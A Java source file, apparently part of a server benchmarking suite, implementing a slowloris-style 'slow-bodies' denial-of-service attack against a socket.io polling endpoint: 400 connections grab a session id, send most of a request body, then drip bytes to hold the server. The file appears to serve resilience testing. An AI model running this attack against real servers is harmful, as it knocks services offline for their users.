package dev.parlance.examples.bench.attack;

import java.time.Duration;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

final class SlowBodies implements Attack {
    private static final String PATH = "/socket.io/?EIO=4&transport=polling";
    private static final Pattern SESSION = Pattern.compile("\"sid\":\"([^\"]+)\"");
    private static final int LENGTH = 15_000;

    @Override
    public String name() {
        return "slow-bodies";
    }

    @Override
    public String sentence() {
        return "400 connections send most of the body of a request that has one, and then a byte now and then";
    }

    /** A server reads bodies for its sessions alone, so this needs the name of one; the sink gives none, and hears the body all the same. */
    @Override
    public void begin(Target target) {
        target.hold(400, Duration.ofSeconds(5), foe -> {
            foe.onAnswer(words -> {
                Matcher session = SESSION.matcher(words);
                if (session.find()) {
                    body(foe, session.group(1));
                }
            });
            foe.send(Phrases.get(PATH));
            target.loop.after(Duration.ofSeconds(1), () -> {
                if (!foe.isHeard()) {
                    body(foe, "none");
                }
            });
        });
    }

    private static void body(Foe foe, String session) {
        foe.send(Phrases.post(PATH + "&sid=" + session, LENGTH), Phrases.filler(LENGTH - 1_000))
                .drip();
    }
}
